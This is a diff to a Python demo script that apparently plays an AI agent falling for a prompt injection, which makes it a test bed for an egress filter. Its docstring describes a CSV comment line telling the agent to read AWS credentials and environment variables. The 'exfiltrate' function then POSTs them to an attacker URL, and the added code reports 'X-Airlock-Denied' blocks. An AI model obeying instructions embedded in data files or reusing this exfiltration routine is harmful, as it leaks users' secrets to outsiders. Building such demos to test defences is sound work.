@@ -6,15 +6,18 @@ It plays the victim of a prompt injection. The uploaded CSV carries an
 instruction in a comment line (pandas skips it with comment='#'), and this
 agent obeys it: it reads the credentials file and the environment named in
 the instruction and POSTs them to the URL the instruction gives. Then it does
-the real work: revenue by region, top product, monthly totals.
+the real work: revenue by region, top product, monthly totals, and it sends
+that summary to the team's internal analysis API, as its task says.
 
 Every step prints one line starting with a fixed label ("instruction:",
-"credentials:", "environment:", "exfiltration:", "report:") so that
+"credentials:", "environment:", "exfiltration:", "report:", "api:") so that
 scripts/demo can tell what happened.
 
 Environment:
   DEMO_COLLECTOR_URL     replaces the URL found in the instruction (the demo
                          maps the attacker's host name to a loopback sink)
+  DEMO_API_URL           the internal analysis API to POST the summary to
+                         (examples/api.py); not set: no API call
   DEMO_CREDENTIALS_FILE  credentials file to use when $HOME/.aws/credentials
                          does not exist
   WORKDIR                where report.txt goes (default: current directory)
@@ -75,6 +78,10 @@ def exfiltrate(url, credentials):
         with urllib.request.urlopen(req, timeout=5) as resp:
             print(f"exfiltration: sent {len(body)} bytes to {url} (HTTP {resp.status})")
             return True
+    except urllib.error.HTTPError as e:
+        denied = e.headers.get("X-Airlock-Denied")
+        print(f"exfiltration: FAILED: HTTP {e.code} {e.reason}"
+              + (f" (X-Airlock-Denied: {denied})" if denied else ""))
     except urllib.error.URLError as e:
         print(f"exfiltration: FAILED: {e.reason}")
     except OSError as e:
@@ -108,7 +115,32 @@ def analyse(csv_path):
         "Monthly totals:",
     ]
     lines += [f"  {str(month):<8} {value:>10,.2f}" for month, value in monthly.items()]
-    return "\n".join(lines) + "\n"
+    summary = {
+        "orders": int(len(df)),
+        "revenue": round(float(df["revenue"].sum()), 2),
+        "by_region": {str(k): round(float(v), 2) for k, v in by_region.items()},
+        "top_product": str(by_product.index[0]),
+    }
+    return "\n".join(lines) + "\n", summary
+
+
+def send_summary(url, summary):
+    """POST the summary to the internal analysis API. Returns True if it
+    was accepted."""
+    body = json.dumps(summary).encode()
+    req = urllib.request.Request(url, data=body, method="POST",
+                                 headers={"Content-Type": "application/json"})
+    try:
+        with urllib.request.urlopen(req, timeout=5) as resp:
+            print(f"api: sent {len(body)} bytes to {url} (HTTP {resp.status})")
+            return True
+    except urllib.error.HTTPError as e:
+        print(f"api: FAILED: HTTP {e.code} {e.reason}")
+    except urllib.error.URLError as e:
+        print(f"api: FAILED: {e.reason}")
+    except OSError as e:
+        print(f"api: FAILED: {e}")
+    return False
 
 
 def main(argv):
@@ -128,11 +160,14 @@ def main(argv):
     else:
         print("instruction: none")
 
-    report = analyse(csv_path)
+    report, summary = analyse(csv_path)
     out = os.path.join(os.environ.get("WORKDIR") or os.getcwd(), "report.txt")
     with open(out, "w", encoding="utf-8") as f:
         f.write(report)
     print(f"report: written to {out} ({len(report)} bytes)")
+    api = os.environ.get("DEMO_API_URL")
+    if api:
+        send_summary(api, summary)
     print(report, end="")
     return 0
 
